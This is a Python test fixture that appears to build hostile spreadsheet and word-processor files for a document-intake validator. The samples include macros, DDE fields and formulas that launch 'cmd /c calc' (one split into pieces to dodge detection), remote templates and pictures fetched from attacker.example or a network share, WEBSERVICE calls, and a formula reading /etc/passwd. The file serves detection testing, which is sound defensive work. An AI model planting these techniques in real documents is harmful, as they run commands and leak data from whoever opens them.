"""Files that start, fetch or embed something."""

from procurement.incoming import Code
from tests.procurement.incoming.hostile_zips import Case
from tests.procurement.incoming.packages import (
    DOTX_MAIN,
    OFFICE,
    XLSX_MAIN,
    Parts,
    cells,
    docx,
    ods,
    ods_row,
    odt,
    relationships,
    types,
    word_with,
    xlsx,
)

STRANGE = "http://attacker.example/x"


def part(name: str, body: str | bytes = "<a/>") -> bytes:
    return xlsx(changes={name: body})


def formula(text: str) -> bytes:
    return xlsx(cells(f'<c r="A1"><f>{text}</f><v>1</v></c>'))


def instruction(*texts: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in texts)
    return docx(f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar/></w:r></w:p>')


def ods_formula(text: str) -> bytes:
    return ods(
        ods_row(f'<table:table-cell table:formula="{text}" office:value-type="float" office:value="1"/>')
    )


def name_of_code(name: str, attributes: str = "") -> Parts:
    names = f'<definedNames><definedName name="{name}"{attributes}>Blad!$A$1</definedName></definedNames>'
    return {"xl/names.xml": f"<workbook>{names}</workbook>"}


ACTIVE: dict[str, Case] = {
    "macros": ("a.xlsx", lambda: part("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0"), Code.MACROS),
    "macro type": (
        "a.xlsx",
        lambda: part(
            "[Content_Types].xml",
            types(**{"xl/workbook.xml": "application/vnd.ms-excel.sheet.macroEnabled.main+xml"}),
        ),
        Code.MACROS,
    ),
    "macro under another name": (
        "a.docx",
        lambda: word_with("vbaProject", "x.xml", external=False),
        Code.MACROS,
    ),
    "macro sheet": ("a.xlsx", lambda: part("xl/macrosheets/sheet1.xml"), Code.MACROS),
    "ribbon": ("a.docx", lambda: docx(changes={"customUI/customUI.xml": "<a/>"}), Code.MACROS),
    "starts by itself": ("a.xlsx", lambda: xlsx(changes=name_of_code("_xlnm.Auto_Open")), Code.MACROS),
    "name of code": ("a.xlsx", lambda: xlsx(changes=name_of_code("x", ' xlm="1"')), Code.MACROS),
    "button with macro": ("a.xlsx", lambda: part("xl/drawings/x.xml", '<a macro="[0]!Run"/>'), Code.MACROS),
    "basic in odt": ("a.odt", lambda: odt("", {"Basic/Standard/x.xml": "<a/>"}), Code.MACROS),
    "listener in ods": (
        "a.ods",
        lambda: ods("", around='<script:event-listener script:event-name="dom:load"/>'),
        Code.MACROS,
    ),
    "script in svg": (
        "a.docx",
        lambda: docx(changes={"word/media/x.svg": "<svg><script>alert(1)</script></svg>"}),
        Code.SCRIPT,
    ),
    "active x": ("a.docx", lambda: docx(changes={"word/activeX/activeX1.xml": "<a/>"}), Code.ACTIVE_CONTROL),
    "control": ("a.docx", lambda: docx('<w:control r:id="rId9"/>'), Code.ACTIVE_CONTROL),
    "add-in": ("a.xlsx", lambda: part("xl/webextensions/x.xml"), Code.ACTIVE_CONTROL),
    "plug-in in odt": ("a.odt", lambda: odt("<draw:plugin/>"), Code.ACTIVE_CONTROL),
    "OLE": ("a.docx", lambda: docx(changes={"word/embeddings/oleObject1.bin": b"x"}), Code.EMBEDDED_FILE),
    "OLE as picture": (
        "a.docx",
        lambda: docx(changes={"word/media/x.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}),
        Code.EMBEDDED_FILE,
    ),
    "program as picture": ("a.xlsx", lambda: part("xl/media/x.png", b"MZ\x90\0"), Code.EMBEDDED_FILE),
    "unknown part": ("a.xlsx", lambda: part("xl/run.exe", b"x"), Code.EMBEDDED_FILE),
    "OLE element": (
        "a.xlsx",
        lambda: xlsx(around="<oleObjects><oleObject/></oleObjects>"),
        Code.EMBEDDED_FILE,
    ),
    "web page inside": ("a.docx", lambda: docx('<w:altChunk r:id="rId9"/>'), Code.EMBEDDED_FILE),
    "web page related": ("a.docx", lambda: word_with("aFChunk", "x.htm", external=False), Code.EMBEDDED_FILE),
    "OLE in odt": ("a.odt", lambda: odt('<draw:object-ole xlink:href="./x"/>'), Code.EMBEDDED_FILE),
    "attached template": (
        "a.docx",
        lambda: word_with("attachedTemplate", STRANGE, external=True),
        Code.OUTSIDE_SOURCE,
    ),
    "template on a share": (
        "a.dotx",
        lambda: docx(
            main=DOTX_MAIN,
            changes={
                "word/_rels/settings.xml.rels": relationships(
                    ("rId1", "attachedTemplate", r"\\10.0.0.1\x.dotm", True)
                )
            },
        ),
        Code.OUTSIDE_SOURCE,
    ),
    "linked picture": ("a.docx", lambda: word_with("image", STRANGE, external=True), Code.OUTSIDE_SOURCE),
    "external in capitals": (
        "a.xlsx",
        lambda: part(
            "xl/_rels/x.rels",
            relationships(("a", "image", STRANGE, True)).replace('"External"', '" EXTERNAL"'),
        ),
        Code.OUTSIDE_SOURCE,
    ),
    "other prefix": (
        "a.docx",
        lambda: docx(
            changes={
                "word/_rels/x.rels": '<p:Relationships xmlns:p="x"><p:Relationship Id="a" Type="image" '
                f'TargetMode="External" Target="{STRANGE}"/></p:Relationships>'
            }
        ),
        Code.OUTSIDE_SOURCE,
    ),
    "almost a hyperlink": (
        "a.docx",
        lambda: word_with(f"{STRANGE}/hyperlink", STRANGE, external=True),
        Code.OUTSIDE_SOURCE,
    ),
    "address as inner part": (
        "a.docx",
        lambda: word_with("image", STRANGE, external=False),
        Code.OUTSIDE_SOURCE,
    ),
    "climbing target": (
        "a.docx",
        lambda: word_with("image", "../../../x.png", external=False),
        Code.ODD_PATH,
    ),
    "picture by address": ("a.docx", lambda: docx(f'<imagedata src="{STRANGE}"/>'), Code.OUTSIDE_SOURCE),
    "linked picture in odt": (
        "a.odt",
        lambda: odt(f'<draw:image xlink:href="{STRANGE}"/>'),
        Code.OUTSIDE_SOURCE,
    ),
    "frame in odt": ("a.odt", lambda: odt("<draw:floating-frame/>"), Code.OUTSIDE_SOURCE),
    "link to a file": (
        "a.docx",
        lambda: word_with("hyperlink", "file:///C:/x.exe", external=True),
        Code.UNSAFE_LINK,
    ),
    "link to a share": ("a.xlsx", lambda: link_on_sheet(r"\\10.0.0.1\x"), Code.UNSAFE_LINK),
    "link with script": ("a.xlsx", lambda: link_on_sheet("javascript:alert(1)"), Code.UNSAFE_LINK),
    "script link in odt": (
        "a.odt",
        lambda: odt('<text:a xlink:href="vnd.sun.star.script:x">a</text:a>'),
        Code.UNSAFE_LINK,
    ),
    "other workbook": ("a.xlsx", lambda: part("xl/externalLinks/externalLink1.xml"), Code.DATA_CONNECTION),
    "dde link": ("a.xlsx", lambda: part("xl/x.xml", "<a><ddeLink/></a>"), Code.DATA_CONNECTION),
    "connections": ("a.xlsx", lambda: part("xl/connections.xml"), Code.DATA_CONNECTION),
    "query": ("a.xlsx", lambda: part("xl/queryTables/queryTable1.xml"), Code.DATA_CONNECTION),
    "pivot from outside": (
        "a.xlsx",
        lambda: part("xl/x.xml", '<a><cacheSource type="external"/></a>'),
        Code.DATA_CONNECTION,
    ),
    "mail merge": ("a.docx", lambda: docx("<w:mailMerge/>"), Code.DATA_CONNECTION),
    "linked table in ods": (
        "a.ods",
        lambda: ods(f'<table:table-source xlink:href="{STRANGE}"/>'),
        Code.DATA_CONNECTION,
    ),
    "dde in ods": ("a.ods", lambda: ods("<office:dde-source/>"), Code.DATA_CONNECTION),
    "encrypted ods": (
        "a.ods",
        lambda: ods("", {"META-INF/manifest.xml": "<manifest><encryption-data/></manifest>"}),
        Code.ENCRYPTED,
    ),
    "dde formula": ("a.xlsx", lambda: formula("cmd|'/c calc'!A0"), Code.ACTIVE_FIELD),
    "web service": (
        "a.xlsx",
        lambda: formula(f'_xlfn.WEBSERVICE("{STRANGE}")'.replace('"', "&quot;")),
        Code.ACTIVE_FIELD,
    ),
    "formula on other workbook": ("a.xlsx", lambda: formula(r"'C:\[x.xlsx]Blad'!A1"), Code.ACTIVE_FIELD),
    "endless formula": ("a.xlsx", lambda: formula("'" * 2_000_000), Code.TOO_COMPRESSED),
    "dde in ods formula": (
        "a.ods",
        lambda: ods_formula("of:=DDE(&quot;soffice&quot;;&quot;x&quot;)"),
        Code.ACTIVE_FIELD,
    ),
    "file in ods formula": (
        "a.ods",
        lambda: ods_formula("of:=['file:///etc/passwd'#$Blad.A1]"),
        Code.ACTIVE_FIELD,
    ),
    "dde field": ("a.docx", lambda: instruction(' DDEAUTO "cmd" "/c calc"'), Code.ACTIVE_FIELD),
    "dde field in pieces": ("a.docx", lambda: instruction(" DD", "EAU", 'TO "cmd"'), Code.ACTIVE_FIELD),
    "picture field": ("a.docx", lambda: instruction(f'INCLUDEPICTURE "{STRANGE}"'), Code.ACTIVE_FIELD),
    "text field": ("a.docx", lambda: docx('<w:fldSimple w:instr="INCLUDETEXT x"/>'), Code.ACTIVE_FIELD),
    "link field to a share": ("a.docx", lambda: instruction(r'HYPERLINK "\\10.0.0.1\x"'), Code.ACTIVE_FIELD),
    "two main parts": (
        "a.xlsx",
        lambda: part(
            "_rels/.rels", relationships(*((at, "officeDocument", "xl/workbook.xml", False) for at in "ab"))
        ),
        Code.DUPLICATE_ENTRY,
    ),
    "two workbooks": (
        "a.xlsx",
        lambda: part("[Content_Types].xml", types(**{"xl/workbook.xml": XLSX_MAIN, "xl/x.xml": XLSX_MAIN})),
        Code.DUPLICATE_ENTRY,
    ),
    "identity twice": (
        "a.xlsx",
        lambda: part("xl/_rels/x.rels", relationships(*(("a", "image", f"{at}.png", False) for at in "ab"))),
        Code.DUPLICATE_ENTRY,
    ),
    "no main part": ("a.xlsx", lambda: xlsx(changes={"xl/workbook.xml": None}), Code.MISSING_PART),
    "no relationships": ("a.xlsx", lambda: xlsx(changes={"_rels/.rels": None}), Code.MISSING_PART),
    "no content": ("a.ods", lambda: ods("", {"content.xml": None}), Code.MISSING_PART),
}


def link_on_sheet(target: str) -> bytes:
    """A hyperlink on a sheet."""
    linked = relationships(("rId1", f"{OFFICE}/hyperlink", target, True))
    return part("xl/worksheets/_rels/sheet1.xml.rels", linked)
